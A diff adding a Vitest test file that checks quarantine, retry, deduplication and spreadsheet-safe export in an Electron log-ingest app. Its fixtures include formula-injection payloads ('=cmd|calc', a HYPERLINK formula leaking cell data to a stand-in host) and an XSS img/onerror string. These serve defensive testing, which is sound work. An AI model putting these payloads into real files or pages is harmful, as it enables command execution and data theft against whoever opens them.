@@ -1,0 +1,124 @@
+import { writeFileSync } from 'node:fs';
+import { PassThrough } from 'node:stream';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { importFile } from '../../../../../electron/core/ingest/import-file';
+import { exportQuarantine, listQuarantine, retryQuarantine, spreadsheetSafe } from '../../../../../electron/core/ingest/quarantine';
+import { saveSource } from '../../../../../electron/core/sources/source-store';
+import { createPipelineVault, eventCount, expectReconciled, NOW, ocsfLines, type PipelineVault } from './pipeline-fixture';
+
+let vault: PipelineVault;
+beforeEach(() => {
+  vault = createPipelineVault();
+});
+afterEach(() => vault.cleanup());
+
+const CSV = [
+  'when,who,ip,result',
+  '2026-10-01T08:00:00Z,alice,10.0.0.1,success',
+  '2026-10-01T08:01:00Z,=cmd|calc,10.0.0.2,failure',
+  '2026-10-01T08:02:00Z,bob,10.0.0.3,success',
+  '2026-10-01T08:02:00Z,bob,10.0.0.3,success',
+].join('\n');
+
+async function exportToString(filter: { batchId?: number }): Promise<string[]> {
+  const out = new PassThrough();
+  const chunks: Buffer[] = [];
+  out.on('data', (c: Buffer) => chunks.push(c));
+  await exportQuarantine(vault.db, filter, out);
+  out.end();
+  return Buffer.concat(chunks).toString('utf8').split('\n').filter((l) => l.length > 0);
+}
+
+describe('quarantine after a wrong CSV mapping', () => {
+  it('lists, exports, and after the mapping is fixed, retries into the log with dedup intact', async () => {
+    const file = vault.input('people.csv');
+    writeFileSync(file, CSV);
+    // The operator first maps the time field to the wrong column: every row fails its time.
+    saveSource(vault.db, { name: 'hr', csvMapping: { time: 'who', 'actor.user.name': 'who' } });
+    const first = await importFile(vault.db, { path: file }, { operator: 'olga', source: 'hr', now: NOW });
+    expectReconciled(vault.db, first);
+    expect(first).toMatchObject({ format: 'csv', read: 4, imported: 0, quarantined: 4 });
+
+    const page1 = listQuarantine(vault.db, { batchId: first.batchId!, limit: 3 });
+    expect(page1.total).toBe(4);
+    expect(page1.rows.map((r) => r.line)).toEqual([2, 3, 4]);
+    expect(page1.rows[1]!.rawText).toBe('2026-10-01T08:01:00Z,=cmd|calc,10.0.0.2,failure');
+    expect(page1.rows.every((r) => r.status === 'open' && r.reason.length > 0 && r.file === 'people.csv')).toBe(true);
+    const page2 = listQuarantine(vault.db, { batchId: first.batchId!, afterId: page1.rows[2]!.id, limit: 3 });
+    expect(page2.rows.map((r) => r.line)).toEqual([5]);
+
+    const exported = (await exportToString({ batchId: first.batchId! })).map((l) => JSON.parse(l) as Record<string, unknown>);
+    expect(exported).toHaveLength(4);
+    expect(Buffer.from(exported[1]!.rawBase64 as string, 'base64').toString('utf8')).toBe('2026-10-01T08:01:00Z,=cmd|calc,10.0.0.2,failure');
+
+    // Fix the mapping, then retry.
+    saveSource(vault.db, { name: 'hr', csvMapping: { time: 'when', 'actor.user.name': 'who', 'src_endpoint.ip': 'ip', status_id: 'result' } });
+    const retry = await retryQuarantine(vault.db, { batchId: first.batchId! }, 'olga', NOW);
+    expect(retry).toEqual({ retried: 4, imported: 4, duplicates: 0, stillQuarantined: 0 });
+    const batch = vault.db.prepare('SELECT read, imported, duplicates, quarantined FROM batches WHERE id = ?').get(first.batchId) as Record<string, number>;
+    expect(batch).toEqual({ read: 4, imported: 4, duplicates: 0, quarantined: 0 });
+    expect(listQuarantine(vault.db, { batchId: first.batchId!, limit: 10 }).rows.every((r) => r.status === 'resolved')).toBe(true);
+    // The formula cell is stored verbatim in the event.
+    const stored = vault.db.prepare("SELECT event FROM events WHERE event LIKE '%calc%'").get() as { event: string };
+    expect((JSON.parse(stored.event) as { actor: { user: { name: string } } }).actor.user.name).toBe('=cmd|calc');
+
+    // Retrying again does nothing; re-importing with the fixed mapping adds nothing (fingerprints match).
+    expect(await retryQuarantine(vault.db, {}, 'olga', NOW)).toEqual({ retried: 0, imported: 0, duplicates: 0, stillQuarantined: 0 });
+    const again = await importFile(vault.db, { path: file }, { operator: 'olga', source: 'hr', now: NOW });
+    expectReconciled(vault.db, again);
+    expect(again).toMatchObject({ read: 4, imported: 0, duplicates: 4, quarantined: 0 });
+    expect(eventCount(vault.db)).toBe(4);
+  });
+
+  it('rows that still fail stay open with the new reason and the counts still reconcile', async () => {
+    const file = vault.input('mixed.jsonl');
+    writeFileSync(file, ocsfLines(3) + 'not json at all\n' + '{"class_uid": "x"}\n');
+    const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW, format: 'ocsf' });
+    expectReconciled(vault.db, s);
+    expect(s).toMatchObject({ read: 5, imported: 3, quarantined: 2 });
+    const r = await retryQuarantine(vault.db, {}, 'o', NOW);
+    expect(r).toEqual({ retried: 2, imported: 0, duplicates: 0, stillQuarantined: 2 });
+    const batch = vault.db.prepare('SELECT read, imported, duplicates, quarantined FROM batches WHERE id = ?').get(s.batchId) as {
+      read: number;
+      imported: number;
+      duplicates: number;
+      quarantined: number;
+    };
+    expect(batch.read).toBe(batch.imported + batch.duplicates + batch.quarantined);
+  });
+});
+
+describe('export is safe to open in a spreadsheet', () => {
+  it('prefixes fields that start like a formula and keeps exact bytes in base64', async () => {
+    const file = vault.input('evil.jsonl');
+    const lines = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '  =1', '<img src=x onerror=alert(1)>'];
+    writeFileSync(file, ocsfLines(1) + lines.join('\n') + '\n');
+    const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW, format: 'ocsf' });
+    expectReconciled(vault.db, s);
+    expect(s).toMatchObject({ imported: 1, quarantined: lines.length });
+    const rows = (await exportToString({ batchId: s.batchId! })).map((l) => JSON.parse(l) as Record<string, string>);
+    expect(rows.map((r) => Buffer.from(r.rawBase64!, 'base64').toString('utf8'))).toEqual(lines);
+    for (const row of rows) expect(row.rawText).not.toMatch(/^[\s]*[=+\-@]/);
+    expect(rows[6]!.rawText).toBe('<img src=x onerror=alert(1)>');
+  });
+
+  it('spreadsheetSafe neutralises every formula lead and leaves the rest', () => {
+    for (const t of ['=1', '+1', '-1', '@x', '\t1', '\r1', ' =1', '\u00a0+1', '\uff1d1']) expect(spreadsheetSafe(t)).toBe(`'${t}`);
+    for (const t of ['abc', '1-2', 'a=b', '<b>x</b>', '']) expect(spreadsheetSafe(t)).toBe(t);
+  });
+
+  it('exported rows never start a text field with a formula character', async () => {
+    const file = vault.input('evil2.jsonl');
+    writeFileSync(file, '=HYPERLINK("http://x")\n@cmd\n+x\n');
+    const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW, format: 'ocsf' });
+    expectReconciled(vault.db, s);
+    const rows = (await exportToString({})).map((l) => JSON.parse(l) as Record<string, unknown>);
+    expect(rows).toHaveLength(3);
+    for (const row of rows) {
+      for (const v of Object.values(row)) if (typeof v === 'string') expect(v).not.toMatch(/^[\s]*[=+\-@]/);
+    }
+    expect(Buffer.from(rows[0]!.rawBase64 as string, 'base64').toString('utf8')).toBe('=HYPERLINK("http://x")');
+    // listQuarantine (the UI) returns the text verbatim: it renders it as text.
+    expect(listQuarantine(vault.db, { limit: 10 }).rows[0]!.rawText).toBe('=HYPERLINK("http://x")');
+  });
+});
